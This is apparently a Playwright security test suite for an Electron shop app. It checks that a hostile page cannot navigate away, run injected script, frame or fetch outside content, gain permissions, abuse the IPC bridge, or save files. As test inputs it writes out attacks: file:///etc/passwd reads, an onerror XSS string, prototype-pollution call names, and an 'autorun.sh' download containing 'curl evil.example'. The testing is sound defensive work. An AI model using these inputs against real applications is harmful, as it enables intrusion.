import { readdir } from 'node:fs/promises'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { appFolder, executable, standIn } from '../support/shell/executable.ts'
import { expect } from '../support/fixtures.ts'
import { openDemoShop } from '../support/shops/open-demo-shop.ts'
import { test } from '../support/shell/shell-test.ts'

/** What a page reports when it is refused something; here it is refused everything. */
const complaints = [
  /^error: /,
  /^warning: /,
  // Chromium reports a frame's address before it checks the policy.
  /^asked elsewhere: https:\/\/evil\.example\//,
]

// Playwright would read a list of objects alone as a value and its options.
test.use({ tolerated: [complaints, { scope: 'test' }] })

/** Calls over the bridge as a hostile script in the window would. */
const callWith = (page: Page, name: unknown, input: unknown) =>
  page.evaluate(
    async ([called, payload]) => {
      try {
        // The bridge must withstand anything that a page may send.
        return await window.desktop?.call(called as string, payload)
      } catch (error) {
        return { threw: String(error) }
      }
    },
    [name, input],
  )

test('A hostile page cannot leave the window: not by an address, not by a form, not by another window', async ({
  page,
  electron,
  openedOutside,
  logged,
}) => {
  await expect(page.getByRole('button', { name: 'Open demo shop' })).toBeVisible()
  const home = page.url()
  await page.evaluate(() => {
    location.href = 'http://evil.example/'
  })
  await page.evaluate(() => {
    location.href = 'file:///etc/passwd'
  })
  await page.evaluate(() => {
    const form = document.createElement('form')
    form.action = 'https://evil.example/form'
    form.method = 'post'
    document.body.append(form)
    form.submit()
  })
  await page.evaluate(() => {
    window.open('http://evil.example/window')
    window.open('file:///etc/passwd')
    window.open('backroom://orders/ABCD-123456')
    window.open('/products')
    window.open('/orders?view=all&order=ABCD-123456&q=x')
  })
  await expect.poll(logged).toContain('Refused to leave for http://evil.example')
  await expect.poll(logged).toContain('Refused a window for http://evil.example')
  await expect.poll(logged).toContain('Refused a window for backroom://orders')
  await expect.poll(logged).toContain('Refused a window for a place of our own that is no order')
  await expect.poll(logged).toMatch(/form-action/)
  expect(page.url()).toBe(home)
  expect(electron.windows()).toHaveLength(1)
  // Only secure pages go to the system's browser.
  expect(await openedOutside()).toEqual([])
})

test('A page that opens orders without end gets a dozen windows, each as isolated as the first, and no handle of one', async ({
  page,
  electron,
  logged,
}) => {
  await expect(page.getByRole('button', { name: 'Open demo shop' })).toBeVisible()
  const opening = electron.waitForEvent('window')
  const own = '/orders?view=all&order=ABCD-100000'
  expect(await page.evaluate((place) => window.open(place) === null, own)).toBe(true)
  const second = await opening
  // The window appears before its first page.
  await second.waitForURL(({ pathname, search }) => `${pathname}${search}` === own)
  const walls = await second.evaluate(() => ({
    opener: window.opener as unknown,
    node: 'require' in globalThis || 'process' in globalThis,
    bridge: Object.keys(window.desktop ?? {}),
  }))
  expect(walls).toEqual({ opener: null, node: false, bridge: ['call', 'on'] })

  await page.evaluate(() => {
    for (let index = 0; index < 30; index += 1) window.open(`/orders?view=all&order=ABCD-${100_001 + index}`)
  })
  await expect.poll(logged).toContain('Refused one window more')
  await expect.poll(() => electron.windows().length).toBe(12)
})

test('A hostile page can run no script and no style of its own, and embed or fetch no other page', async ({
  page,
  logged,
}) => {
  await expect(page.getByRole('button', { name: 'Open demo shop' })).toBeVisible()
  const outcome = await page.evaluate(async () => {
    const threw = (work: () => unknown) => {
      try {
        work()
        return false
      } catch {
        return true
      }
    }
    // As a hostile script would write it, and a linter would not let us.
    const made = (name: string) => Reflect.get(window, name) as () => unknown
    const win = window as unknown as Record<string, unknown>
    const script = document.createElement('script')
    const inline = threw(() => {
      script.textContent = 'window.ranInline = true'
      document.body.append(script)
    })
    const style = document.createElement('style')
    style.textContent = 'body { color: rgb(1, 2, 3) }'
    document.head.append(style)
    const frame = document.createElement('iframe')
    frame.src = 'https://evil.example/frame'
    document.body.append(frame)
    const webview = document.createElement('webview')
    webview.setAttribute('src', 'https://evil.example/webview')
    webview.setAttribute('allowpopups', '')
    document.body.append(webview)
    await new Promise((done) => setTimeout(done, 500))
    return {
      // Trusted types stop these before Chromium checks the policy.
      eval: threw(() => Reflect.apply(made('eval'), window, ['window.ranEval = true'])),
      newFunction: threw(() => Reflect.construct(made('Function'), ['window.ranEval = true'])),
      html: threw(() => (document.body.innerHTML = '<img src=x onerror="window.ranInline = true">')),
      inline,
      ran: win['ranInline'] ?? win['ranEval'] ?? 'nothing',
      styled: getComputedStyle(document.body).color === 'rgb(1, 2, 3)',
      frame: threw(() => frame.contentWindow?.document.body.textContent),
      webview: 'getURL' in webview,
      fetched: await fetch('https://evil.example/').then(
        () => true,
        () => false,
      ),
      worker: threw(() => new Worker('data:text/javascript,0')),
    }
  })
  expect(outcome).toEqual({
    eval: true,
    newFunction: true,
    html: true,
    inline: true,
    ran: 'nothing',
    styled: false,
    frame: true,
    webview: false,
    fetched: false,
    worker: true,
  })
  for (const directive of ['TrustedScript', 'style-src', 'frame-src', 'connect-src'])
    await expect.poll(logged, directive).toContain(directive)
})

test.describe(() => {
  // Chromium requests no camera when there is none.
  test.use({ flags: [['--use-fake-device-for-media-stream'], { scope: 'test' }] })

  test('A hostile page is granted no permission, and what it requested is in the log', async ({
    page,
    logged,
  }) => {
    await expect(page.getByRole('button', { name: 'Open demo shop' })).toBeVisible()
    const outcome = await page.evaluate(async () => {
      const refused = (asking: Promise<unknown>) =>
        asking.then(
          (answer) => answer === 'denied',
          () => true,
        )
      return {
        place: await refused(
          new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)),
        ),
        camera: await refused(navigator.mediaDevices.getUserMedia({ video: true })),
        clipboard: await refused(navigator.clipboard.readText()),
        notifications: await refused(Notification.requestPermission()),
      }
    })
    expect(outcome).toEqual({ place: true, camera: true, clipboard: true, notifications: true })
    for (const permission of ['geolocation', 'media', 'clipboard-read', 'notifications'])
      await expect.poll(logged, permission).toContain(`Refused the permission ${permission}`)
  })
})

test('A hostile page that calls with names and shapes outside of the contract gets refusals', async ({
  page,
  logged,
}) => {
  await expect(page.getByRole('button', { name: 'Open demo shop' })).toBeVisible()
  for (const name of ['constructor', '__proto__', 'toString', 'session.secrets', '', '../session.current'])
    expect(await callWith(page, name, {})).toMatchObject({ ok: false, error: { kind: 'unexpected' } })
  expect(await callWith(page, 'orders.get', { id: 7 })).toMatchObject({
    ok: false,
    error: { kind: 'invalid' },
  })
  expect(await callWith(page, 'orders.list', [])).toMatchObject({ ok: false, error: { kind: 'invalid' } })
  expect(await callWith(page, { toString: 'session.current' }, {})).not.toMatchObject({ ok: true })
  await expect.poll(logged).toContain('Refused a call that the contract does not know')
  await expect.poll(logged).toContain('Refused a call of orders.get: its input has another shape')
})

/** Chromium attributes to a press what comes within five seconds of it; a driver's own request counts as a press. */
const pressIsOverMs = 6000

test('A hostile page opens nothing without a press, not even a shop’s own page', async ({
  app,
  page,
  openedOutside,
}) => {
  await openDemoShop(app)
  const url = 'https://saltmarsh.example'
  expect(await callWith(page, 'links.open', { url: 'https://evil.example/?buyer' })).toMatchObject({
    ok: false,
    error: { kind: 'forbidden' },
  })
  // The page reports the answer by itself: a request for it would count as a press.
  const consoleMessage = page.waitForEvent('console', (message) => message.text().startsWith('answered '))
  await page.evaluate(
    async ([address, waited]) => {
      const ask = async () => {
        const answer = await window.desktop?.call('links.open', { url: address })
        console.log(`answered ${JSON.stringify(answer)}`)
      }
      setTimeout(() => void ask(), Number(waited))
    },
    [url, pressIsOverMs],
  )
  expect(JSON.parse((await consoleMessage).text().replace('answered ', ''))).toMatchObject({
    ok: false,
    error: { kind: 'forbidden', message: 'Not opened: nothing was pressed for it.' },
  })
  expect(await openedOutside()).toEqual([])
  expect(await callWith(page, 'links.open', { url })).toMatchObject({ ok: true })
  await expect.poll(openedOutside).toEqual([`${url}/`])
})

test('A hostile page loads pictures of the shop and no others', async ({ app, page, logged }) => {
  await openDemoShop(app)
  const sizes = await page.evaluate(async () => {
    const widthOf = (src: string) =>
      new Promise<number>((done) => {
        const image = new Image()
        image.onload = () => done(image.naturalWidth)
        image.onerror = () => done(0)
        image.src = src
      })
    const evil = encodeURIComponent('https://evil.example/?buyer')
    return Promise.all([widthOf('https://evil.example/?buyer'), widthOf(`/picture/80/${evil}`)])
  })
  expect(sizes).toEqual([0, 0])
  await expect
    .poll(logged)
    .toContain("violates the following Content Security Policy directive: \"img-src 'self' data:")
})

test('A hostile page can save nothing on this computer but what it made itself', async ({
  page,
  dataDir,
  logged,
}) => {
  test.skip(
    executable === standIn,
    'Its Chromium is driven by the tests, which take its downloads themselves.',
  )
  await expect(page.getByRole('button', { name: 'Open demo shop' })).toBeVisible()
  await page.evaluate(() => {
    const link = document.createElement('a')
    link.href = 'data:text/plain,curl%20evil.example'
    link.download = 'autorun.sh'
    document.body.append(link)
    link.click()
  })
  await expect.poll(logged).toContain('Refused to save what data: sent')
  expect(await readdir(dataDir, { recursive: true })).not.toContainEqual(expect.stringContaining('autorun'))
})

test('A call of 50 MB is refused before anybody reads it, and the window goes on', async ({
  page,
  logged,
}) => {
  await expect(page.getByRole('button', { name: 'Open demo shop' })).toBeVisible()
  const answer = await page.evaluate(() =>
    window.desktop?.call('session.signIn', { subdomain: 'a', password: 'x'.repeat(50_000_000) }),
  )
  expect(answer).toMatchObject({ ok: false, error: { kind: 'invalid' } })
  await expect.poll(logged).toContain('Refused a call of more than 1 MB')
  await expect.poll(async () => (await logged()).length).toBeLessThan(10_000)
  expect(await callWith(page, 'session.current', {})).toMatchObject({ ok: true })
})

test('A page that is not ours has the same bridge and gets no answer over it', async ({
  page,
  electron,
  logged,
}) => {
  await expect(page.getByRole('button', { name: 'Open demo shop' })).toBeVisible()
  const opening = electron.waitForEvent('window')
  await electron.evaluate(
    async ({ BrowserWindow }, preload) => {
      const foreign = new BrowserWindow({ show: false, webPreferences: { preload } })
      await foreign.loadURL('data:text/html,<title>foreign</title>')
    },
    join(appFolder, 'out/preload/index.cjs'),
  )
  const foreign = await opening
  await foreign.waitForURL(/^data:/)
  expect(await callWith(foreign, 'session.current', {})).toEqual({
    threw: expect.stringContaining('Only the window of Backroom may call.'),
  })
  await expect.poll(logged).toContain('Refused a call from null')
})
